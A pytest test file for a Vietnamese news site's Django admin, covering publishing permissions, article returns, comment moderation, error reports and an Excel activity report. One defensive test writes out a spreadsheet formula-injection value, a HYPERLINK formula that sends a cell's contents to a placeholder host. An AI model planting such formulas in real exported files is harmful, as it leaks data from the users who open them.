"""The news desk in the admin: writing, the workflow and its refusals, moderation, reports."""

import datetime as dt
import html
import io
import re
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone
from PIL import Image

from news.models import Article, Comment, ErrorReport, NewsPreferences, Photo
from tests.factories import browser
from tests.files import jpeg_upload
from tests.helpers import section, text_of, vi
from tests.news.factories import (
    DANGEROUS_BODY,
    DRAFT,
    SUBMITTED,
    article_form,
    assert_safe_and_kept,
    make_article,
    management_form,
)

HANOI = ZoneInfo("Asia/Ho_Chi_Minh")
ADD_URL = reverse("admin:news_article_add")
LIST_URL = reverse("admin:news_article_changelist")


def change_url(article) -> str:
    return reverse("admin:news_article_change", args=[article.pk])


def admin_messages(response) -> list[str]:
    block = re.search(r'<ul class="messagelist">(.*?)</ul>', text_of(response), re.S)
    if not block:
        return []
    return [
        html.unescape(re.sub(r"<[^>]+>", "", item)).strip()
        for item in re.findall(r"<li[^>]*>(.*?)</li>", block.group(1), re.S)
    ]


def form_of(article, **changes) -> dict:
    """The change form of an existing article, as the browser would send it back."""
    local = article.published_at.astimezone(HANOI) if article.published_at else None
    photos = article.photos.count()
    data = article_form(
        article.category,
        title=article.title,
        slug=article.slug,
        summary=article.summary,
        body=article.body,
        cover_alt=article.cover_alt,
        cover_caption=article.cover_caption,
        byline=article.byline,
        source=article.source,
        published_at_0=f"{local:%Y-%m-%d}" if local else "",
        published_at_1=f"{local:%H:%M:%S}" if local else "",
        **management_form(total=photos, initial=photos),
    )
    data.update(changes)
    return data


def run_action(client, action: str, articles, url=LIST_URL, **extra):
    return client.post(
        url,
        {"action": action, "_selected_action": [a.pk for a in articles], **extra},
        follow=True,
    )


# ---------------------------------------------------------------------------------------
# Writing and the workflow


class TestEditorWritesAnArticle:
    def test_add_form_with_cover_and_photo_then_submit(self, editor, editor_client, categories):
        form = article_form(
            categories["union"],
            body="<p>Mở đầu.</p><p>[ảnh 1]</p><p>Kết thúc.</p>",
            cover=jpeg_upload("IMG_0001.jpg"),
            cover_alt="Công nhân nhận quà",
            cover_caption="Trao quà tại nhà văn hóa khu công nghiệp.",
            tags=[],
            **management_form(total=1),
            **{
                "photos-0-order": "1",
                "photos-0-image": jpeg_upload("DSC_1234.jpg", size=(1200, 800)),
                "photos-0-alt": "Đại diện công đoàn trao quà",
                "photos-0-caption": "Đại diện Công đoàn KCN trao quà cho công nhân.",
                "photos-0-id": "",
                "photos-0-article": "",
            },
            _submit="Lưu và gửi duyệt",
        )
        response = editor_client.post(ADD_URL, form)
        article = Article.objects.get()
        assert response.status_code == 302
        assert response["Location"] == change_url(article)

        assert article.status == Article.Status.SUBMITTED
        assert article.author == editor
        assert (
            article.slug == "cong-doan-khu-cong-nghiep-tan-phong-trao-300-suat-qua-thang-cong-nhan"
        )
        assert "IMG_0001" not in article.cover.name
        with Image.open(article.cover_social.path) as social:
            assert social.size == (1200, 630)
        photo = Photo.objects.get(article=article)
        assert photo.alt == "Đại diện công đoàn trao quà"
        with Image.open(photo.small.path) as small:
            assert small.size == (480, 320)
        assert "DSC_1234" not in photo.image.name

        page = editor_client.get(response["Location"])
        assert vi("Submitted for review.") in admin_messages(page)

        # Approvers see the submitted article first; the preview shows the placed photo.
        preview = editor_client.get(article.get_absolute_url())
        assert "Đại diện Công đoàn KCN trao quà cho công nhân." in section(
            preview, r'<div class="article-body">.*?</div>\s*<p'
        )

    def test_history_keeps_who_changed_what(
        self, editor, editor_client, approver_client, categories
    ):
        editor_client.post(ADD_URL, article_form(categories["union"], _continue="1"))
        article = Article.objects.get()
        first_title = article.title
        editor_client.post(change_url(article), form_of(article, title="Tiêu đề đã sửa lần hai"))
        article.refresh_from_db()
        approver_client.post(change_url(article), form_of(article, _publish="1"))

        records = list(article.history.order_by("history_date"))
        assert [(r.history_user.username, r.title, r.status) for r in records] == [
            ("tran.van.binh", first_title, "draft"),
            ("tran.van.binh", "Tiêu đề đã sửa lần hai", "draft"),
            ("le.thi.hoa", "Tiêu đề đã sửa lần hai", "draft"),
            ("le.thi.hoa", "Tiêu đề đã sửa lần hai", "published"),
        ]
        history = approver_client.get(reverse("admin:news_article_history", args=[article.pk]))
        assert history.status_code == 200
        assert "tran.van.binh" in text_of(history)
        assert "le.thi.hoa" in text_of(history)

    def test_body_is_sanitised_when_saved_from_the_admin(self, editor_client, categories):
        editor_client.post(ADD_URL, article_form(categories["union"], body=DANGEROUS_BODY))
        assert_safe_and_kept(Article.objects.get().body)

    def test_editor_does_not_see_the_publish_button_or_the_schedule_fields(
        self, editor_client, approver_client, articles
    ):
        page = text_of(editor_client.get(change_url(articles["draft"])))
        assert 'name="_submit"' in page
        assert 'name="_publish"' not in page
        assert 'name="published_at_0"' not in page
        assert 'name="featured"' not in page

        page = text_of(approver_client.get(change_url(articles["submitted"])))
        assert 'name="_publish"' in page
        assert 'name="published_at_0"' in page
        assert reverse("admin:news_article_return", args=[articles["submitted"].pk]) in page


class TestPublishing:
    def test_editor_publish_action_is_refused(self, editor_client, articles):
        submitted = articles["submitted"]
        response = run_action(editor_client, "publish_selected", [submitted])
        assert response.status_code == 200
        assert (
            f"“{submitted.title}”: {vi('Only an approver may publish articles.')}"
            in admin_messages(response)
        )
        stored = Article.objects.get(pk=submitted.pk)
        assert stored.status == Article.Status.SUBMITTED
        assert stored.published_at is None

    def test_editor_publish_button_is_refused(self, editor_client, articles):
        draft = articles["draft"]
        response = editor_client.post(change_url(draft), form_of(draft, _publish="1"), follow=True)
        assert vi("Only an approver may publish articles.") in admin_messages(response)
        assert Article.objects.get(pk=draft.pk).status == Article.Status.DRAFT

    def test_editor_publish_button_on_a_new_article_saves_a_draft_only(
        self, editor_client, categories, visitor
    ):
        response = editor_client.post(
            ADD_URL, article_form(categories["union"], _publish="1"), follow=True
        )
        assert vi("Only an approver may publish articles.") in admin_messages(response)
        article = Article.objects.get()
        assert article.status == Article.Status.DRAFT
        assert visitor.get(article.get_absolute_url()).status_code == 404

    def test_editor_feature_action_is_refused(self, editor_client, articles):
        response = run_action(editor_client, "feature", [articles["published"]])
        assert vi("Only an approver may feature articles.") in admin_messages(response)
        assert not Article.objects.filter(featured=True).exists()

    def test_approver_publishes_with_the_button(self, approver_client, articles, visitor):
        submitted = articles["submitted"]
        response = approver_client.post(
            change_url(submitted), form_of(submitted, _publish="1"), follow=True
        )
        assert vi("Published.") in admin_messages(response)
        stored = Article.objects.get(pk=submitted.pk)
        assert stored.status == Article.Status.PUBLISHED
        assert visitor.get(stored.get_absolute_url()).status_code == 200

    def test_approver_publishes_in_bulk(self, approver_client, articles):
        chosen = [articles["draft"], articles["submitted"]]
        response = run_action(approver_client, "publish_selected", chosen)
        assert vi("%d article published.", "%d articles published.", 2) in admin_messages(response)
        assert set(
            Article.objects.filter(pk__in=[a.pk for a in chosen]).values_list("status", flat=True)
        ) == {"published"}

    def test_approver_schedules_from_the_form(self, approver_client, articles, visitor):
        submitted = articles["submitted"]
        form = form_of(submitted, published_at_0="2099-05-01", published_at_1="07:00:00")
        approver_client.post(change_url(submitted), {**form, "_publish": "1"})
        stored = Article.objects.get(pk=submitted.pk)
        assert stored.status == Article.Status.PUBLISHED
        assert stored.published_at == dt.datetime(2099, 5, 1, 7, 0, tzinfo=HANOI)
        assert visitor.get(stored.get_absolute_url()).status_code == 404
        row = section(
            approver_client.get(LIST_URL), rf"<tr>(?:(?!</tr>).)*{re.escape(stored.title)}.*?</tr>"
        )
        assert vi("Scheduled") in row

    def test_featuring_shows_on_the_home_page_within_a_minute(
        self, approver_client, articles, visitor, time_machine
    ):
        run_action(approver_client, "feature", [articles["older"]])
        featured = section(visitor.get("/"), r'<section class="panel featured".*?</section>')
        assert articles["older"].title in featured
        run_action(approver_client, "unfeature", [articles["older"]])
        time_machine.move_to(timezone.now() + dt.timedelta(minutes=1))
        assert 'class="panel featured"' not in text_of(visitor.get("/"))


class TestReturning:
    def return_url(self, article):
        return reverse("admin:news_article_return", args=[article.pk])

    def test_a_reason_is_required(self, approver_client, articles):
        submitted = articles["submitted"]
        response = approver_client.post(self.return_url(submitted), {"return_reason": "  "})
        assert response.status_code == 200
        assert html.escape(vi("Say why the article is returned.")) in text_of(response)
        assert Article.objects.get(pk=submitted.pk).status == Article.Status.SUBMITTED

    def test_returned_with_its_reason_shown_to_the_editor(
        self, approver_client, editor_client, articles
    ):
        submitted = articles["submitted"]
        reason = "Bổ sung số nhà Mái ấm Công đoàn đã bàn giao và kinh phí."
        response = approver_client.post(
            self.return_url(submitted), {"return_reason": reason}, follow=True
        )
        assert vi("Returned to the author.") in admin_messages(response)
        stored = Article.objects.get(pk=submitted.pk)
        assert stored.status == Article.Status.RETURNED
        assert stored.return_reason == reason

        page = editor_client.get(change_url(stored))
        assert html.escape(reason) in section(page, r'<p class="errornote">.*?</p>')

    def test_bulk_return_asks_for_the_reason(self, approver_client, articles):
        chosen = [articles["submitted"], articles["published"]]
        asked = run_action(approver_client, "return_selected", chosen)
        assert 'name="return_reason"' in text_of(asked)
        assert set(
            Article.objects.filter(pk__in=[a.pk for a in chosen]).values_list("status", flat=True)
        ) == {
            "submitted",
            "published",
        }
        empty = run_action(approver_client, "return_selected", chosen, apply="1", return_reason="")
        assert html.escape(vi("Say why the article is returned.")) in text_of(empty)
        done = run_action(
            approver_client, "return_selected", chosen, apply="1", return_reason="Ảnh chưa rõ."
        )
        assert vi("%d article returned.", "%d articles returned.", 2) in admin_messages(done)
        assert set(
            Article.objects.filter(pk__in=[a.pk for a in chosen]).values_list("status", flat=True)
        ) == {"returned"}

    def test_editors_cannot_return(self, editor_client, articles):
        submitted = articles["submitted"]
        assert editor_client.get(self.return_url(submitted)).status_code == 403
        response = editor_client.post(self.return_url(submitted), {"return_reason": "Không đạt"})
        assert response.status_code == 403
        assert Article.objects.get(pk=submitted.pk).status == Article.Status.SUBMITTED


class TestPublishedArticles:
    def test_editor_can_only_look_at_a_published_article(self, editor_client, article):
        page = editor_client.get(change_url(article))
        assert page.status_code == 200  # editors may view every article
        assert 'name="title"' not in text_of(page)
        assert 'name="_save"' not in text_of(page)

        response = editor_client.post(change_url(article), form_of(article, title="Sửa trái phép"))
        assert response.status_code == 403
        assert Article.objects.get(pk=article.pk).title == article.title

    def test_approver_edits_a_published_article_but_not_its_address(self, approver_client, article):
        page = text_of(approver_client.get(change_url(article)))
        assert 'name="title"' in page
        assert 'name="slug"' not in page  # read-only once published

        response = approver_client.post(
            change_url(article),
            form_of(article, title="Công đoàn tỉnh trao 1.300 suất quà Tết", slug="dia-chi-moi"),
        )
        assert response.status_code == 302
        stored = Article.objects.get(pk=article.pk)
        assert stored.title == "Công đoàn tỉnh trao 1.300 suất quà Tết"
        assert stored.slug == article.slug

    def test_a_published_article_cannot_be_deleted(self, approver_client, article):
        delete = reverse("admin:news_article_delete", args=[article.pk])
        assert approver_client.post(delete, {"post": "yes"}).status_code == 403
        assert Article.objects.filter(pk=article.pk).exists()


class TestArticleList:
    def test_columns_filters_and_waiting_comments(self, approver_client, articles):
        article = articles["published"]
        for number in range(3):
            Comment.objects.create(
                article=article,
                name=f"Bạn đọc {number}",
                email=f"ban.doc{number}@example.vn",
                text="Ý kiến chờ duyệt.",
            )
        Comment.objects.create(
            article=article,
            name="Bạn đọc đã duyệt",
            email="da.duyet@example.vn",
            text="Đã duyệt.",
            status=Comment.Status.APPROVED,
        )
        response = approver_client.get(LIST_URL)
        assert response.status_code == 200
        row = section(response, rf"<tr>(?:(?!</tr>).)*{re.escape(article.title)}.*?</tr>")
        waiting = reverse("admin:news_comment_changelist") + (
            f"?article__id__exact={article.pk}&amp;status=pending"
        )
        assert f'<a href="{waiting}">3</a>' in row
        assert article.cover_small.url in row
        assert vi("comments waiting").capitalize() in text_of(response)

        submitted = approver_client.get(LIST_URL, {"status": "submitted"})
        assert articles["submitted"].title in text_of(submitted)
        assert articles["published"].title not in text_of(submitted)

    def test_status_column_tells_scheduled_from_taken_down(
        self, approver_client, articles, approver
    ):
        window = make_article(
            "Thông báo lịch trực Tết (hiện từ mùng 1 đến mùng 5)",
            articles["published"].category,
            by=approver,
            published_at=timezone.now() + dt.timedelta(days=3),
            expires_at=timezone.now() + dt.timedelta(days=8),
        )
        page = approver_client.get(LIST_URL)

        def status_of(article):
            row = section(page, rf"<tr>(?:(?!</tr>).)*{re.escape(article.title)}.*?</tr>")
            return re.search(r'<span class="status [^"]+">(.*?)</span>', row).group(1)

        assert status_of(articles["scheduled"]) == vi("Scheduled")
        assert status_of(window) == vi("Scheduled")  # scheduled, with an expiry as well
        assert status_of(articles["expired"]) == vi("Not shown")
        assert status_of(articles["published"]) == vi("Published")
        assert status_of(articles["draft"]) == vi("Draft")

    def test_search_ignores_diacritics(self, approver_client, articles):
        for query in ("luat cong doan", "Luật Công Đoàn", "LUẬT công đoàn"):
            response = approver_client.get(LIST_URL, {"q": query})
            assert articles["policy"].title in text_of(response), query
            assert articles["older"].title not in text_of(response), query


# ---------------------------------------------------------------------------------------
# Comments, error reports


class TestModeration:
    @pytest.fixture
    def comments(self, article):
        return [
            Comment.objects.create(
                article=article,
                name=name,
                email=f"ban.doc{number}@example.vn",
                text=text,
                created_at=dt.datetime(2026, 2, 3, 9, 15 + number, tzinfo=HANOI),
            )
            for number, (name, text) in enumerate(
                [
                    ("Hoàng Thị Thu", "Mong công đoàn tiếp tục chăm lo cho công nhân nữ."),
                    ("Nguyễn Văn Nam", "Bài viết rất thiết thực."),
                    ("Quảng cáo", "Mua thuốc giá rẻ tại đây"),
                ]
            )
        ]

    def test_waiting_comments_open_the_list(self, approver_client, comments):
        response = approver_client.get(reverse("admin:news_comment_changelist"))
        for comment in comments:
            assert comment.text in text_of(response)

    def test_approve_reject_and_spam_in_bulk(self, approver_client, approver, comments, article):
        url = reverse("admin:news_comment_changelist")
        good, also_good, spam = comments
        response = run_action(approver_client, "approve", [good, also_good], url=url)
        assert vi("%d comment updated.", "%d comments updated.", 2) in admin_messages(response)
        run_action(approver_client, "mark_spam", [spam], url=url)
        assert dict(Comment.objects.values_list("name", "status")) == {
            "Hoàng Thị Thu": "approved",
            "Nguyễn Văn Nam": "approved",
            "Quảng cáo": "spam",
        }
        assert Comment.objects.get(pk=good.pk).moderated_by == approver

        page = browser().get(article.get_absolute_url())
        listed = section(page, r'<ol class="comment-list">.*?</ol>')
        assert good.text in listed
        assert also_good.text in listed
        assert spam.text not in listed
        assert "Thứ ba, 03/02/2026 09:15" in listed  # the date it was sent, the Vietnamese way
        assert listed.index(good.text) < listed.index(also_good.text)  # oldest first

        # An approved comment is found under the "approved" filter and taken down from there.
        run_action(approver_client, "reject", [also_good], url=f"{url}?status=approved")
        listed = section(
            browser().get(article.get_absolute_url()), r'<ol class="comment-list">.*?</ol>'
        )
        assert also_good.text not in listed
        assert good.text in listed

    def test_editors_cannot_moderate(self, editor_client, comments):
        url = reverse("admin:news_comment_changelist")
        run_action(editor_client, "approve", comments, url=url)
        assert set(Comment.objects.values_list("status", flat=True)) == {"pending"}


class TestErrorReports:
    def test_listed_and_resolved(self, approver_client, article):
        report = ErrorReport.objects.create(
            article=article, description="Ảnh bìa ghi sai tên xã.", contact="0988 111 222"
        )
        url = reverse("admin:news_errorreport_changelist")
        listing = approver_client.get(url)
        assert "Ảnh bìa ghi sai tên xã." in text_of(listing)
        run_action(approver_client, "mark_resolved", [report], url=url)
        assert ErrorReport.objects.get().resolved


# ---------------------------------------------------------------------------------------
# Posting-activity report


class TestPostingReport:
    URL = reverse("admin:news_article_report")

    @pytest.fixture
    def activity(self, categories, editor, approver, time_machine):
        time_machine.move_to(dt.datetime(2026, 6, 30, 12, 0, tzinfo=HANOI), tick=False)

        def write(title, category, author, day, views):
            article = make_article(
                title,
                category,
                by=author,
                published_at=dt.datetime(2026, 6, day, 8, 0, tzinfo=HANOI),
            )
            Article.objects.filter(pk=article.pk).update(views=views)

        write("Tin tháng Sáu số 1", categories["union"], editor, 2, 100)
        write("Tin tháng Sáu số 2", categories["union"], editor, 15, 50)
        write("Tin tháng Sáu số 3", categories["policy"], approver, 20, 7)
        write("Tin tháng Năm", categories["policy"], approver, 1, 1000)  # before the range
        Article.objects.filter(title="Tin tháng Năm").update(
            published_at=dt.datetime(2026, 5, 31, 23, 0, tzinfo=HANOI)
        )
        make_article("Bản nháp tháng Sáu", categories["union"], by=editor, state=DRAFT)
        make_article("Bài chờ duyệt tháng Sáu", categories["union"], by=editor, state=SUBMITTED)

    def test_per_author_and_per_category(self, approver_client, activity):
        response = approver_client.get(self.URL, {"start": "2026-06-01", "end": "2026-06-30"})
        assert response.status_code == 200
        page = text_of(response)
        assert vi("Posting activity") in page
        rows = [
            [
                html.unescape(re.sub(r"<[^>]+>", "", cell)).strip()
                for cell in re.findall(r"<t[dh][^>]*>(.*?)</t[dh]>", row)
            ]
            for row in re.findall(r"<tr>(.*?)</tr>", page, re.S)
        ]
        assert ["Trần Văn Bình", "2", "150"] in rows
        assert ["Lê Thị Hoa", "1", "7"] in rows
        assert ["Hoạt động công đoàn", "2", "150"] in rows
        assert ["Chính sách – Pháp luật", "1", "7"] in rows
        assert [vi("Total"), "3", "157"] in rows

    def test_excel_download(self, approver_client, activity):
        response = approver_client.get(
            self.URL, {"start": "2026-06-01", "end": "2026-06-30", "format": "xlsx"}
        )
        assert response.status_code == 200
        assert response["Content-Type"].startswith(
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        )
        assert "hoat-dong-dang-bai-20260601-20260630.xlsx" in response["Content-Disposition"]
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        rows = [list(row) for row in sheet.iter_rows(values_only=True)]
        assert "01/06/2026" in rows[0][0]
        assert "30/06/2026" in rows[0][0]
        assert ["Trần Văn Bình", 2, 150] in rows
        assert ["Lê Thị Hoa", 1, 7] in rows
        assert ["Hoạt động công đoàn", 2, 150] in rows
        assert ["Chính sách – Pháp luật", 1, 7] in rows
        assert [vi("Total"), 3, 157] in rows

    def test_typed_names_are_text_in_the_excel_file_never_formulas(
        self, approver_client, activity, editor, categories
    ):
        formula = '=HYPERLINK("https://example.com/?d="&A5,"Xem")'
        editor.first_name, editor.last_name = formula, ""
        editor.save()
        categories["union"].name = "@SUM(1+1)"
        categories["union"].save()
        response = approver_client.get(
            self.URL, {"start": "2026-06-01", "end": "2026-06-30", "format": "xlsx"}
        )
        book = openpyxl.load_workbook(io.BytesIO(response.content))
        assert book.sheetnames == [vi("Posting activity")]
        cells = [cell for row in book.active.iter_rows() for cell in row]
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
        names = {cell.value for cell in cells if cell.data_type == "s"}
        assert {formula, "@SUM(1+1)"} <= names

    def test_start_after_end_is_refused(self, approver_client, activity):
        response = approver_client.get(self.URL, {"start": "2026-06-30", "end": "2026-06-01"})
        assert response.status_code == 200
        assert html.escape(vi("The start date must not be after the end date.")) in text_of(
            response
        )
        assert "Trần Văn Bình" not in text_of(response)
        excel = approver_client.get(
            self.URL, {"start": "2026-06-30", "end": "2026-06-01", "format": "xlsx"}
        )
        assert excel["Content-Type"].startswith("text/html")

    def test_nonsense_dates_are_refused_without_an_error_page(self, approver_client, activity):
        response = approver_client.get(self.URL, {"start": "ngày mai", "end": "2026-13-45"})
        assert response.status_code == 200
        assert "Trần Văn Bình" not in text_of(response)

    def test_the_article_list_links_to_the_report(self, approver_client, activity):
        page = text_of(approver_client.get(reverse("admin:news_article_changelist")))
        assert f'href="{self.URL}"' in page

    def test_visitors_do_not_get_the_report(self, visitor, activity):
        response = visitor.get(self.URL)
        assert response.status_code == 302
        assert "/login/" in response["Location"]


class TestNewsPreferences:
    URL = reverse("admin:news_newspreferences_changelist")
    CHANGE_URL = reverse("admin:news_newspreferences_change", args=[1])

    def test_approvers_turn_moderation_off_in_one_row(self, approver_client):
        assert approver_client.get(self.URL)["Location"] == self.CHANGE_URL
        assert NewsPreferences.current().moderate_comments is True

        approver_client.post(self.CHANGE_URL, {})

        assert NewsPreferences.objects.count() == 1
        assert NewsPreferences.current().moderate_comments is False
        assert "deletelink" not in text_of(approver_client.get(self.CHANGE_URL))

    def test_staff_without_the_permission_are_refused_and_no_row_is_made(self, editor_client):
        response = editor_client.get(self.URL)
        assert response.status_code == 403
        assert not NewsPreferences.objects.exists()
